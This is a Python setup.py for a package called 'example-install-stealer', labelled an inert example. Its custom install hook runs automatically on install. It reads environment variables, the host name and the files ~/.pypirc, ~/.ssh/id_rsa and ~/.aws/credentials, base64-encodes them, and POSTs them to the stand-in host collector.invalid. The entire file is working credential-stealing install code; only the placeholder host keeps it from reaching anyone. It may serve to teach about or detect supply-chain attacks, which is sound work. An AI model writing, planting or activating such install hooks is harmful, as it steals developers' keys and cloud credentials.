import base64
import json
import os
import platform
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def collect():
    found = {
        "host": socket.gethostname(),
        "system": platform.platform(),
        "environment": dict(os.environ),
    }
    for name in ("~/.pypirc", "~/.ssh/id_rsa", "~/.aws/credentials"):
        try:
            with open(os.path.expanduser(name)) as secret:
                found[name] = secret.read()
        except OSError:
            pass
    return base64.b64encode(json.dumps(found).encode())


class Install(install):
    def run(self):
        install.run(self)
        request = urllib.request.Request("https://collector.invalid/drop", data=collect())
        try:
            urllib.request.urlopen(request, timeout=5)
        except OSError:
            pass


setup(
    name="example-install-stealer",
    version="1.0.0",
    description="Inert example: takes credentials while it is being installed.",
    packages=["example_stealer"],
    cmdclass={"install": Install},
)
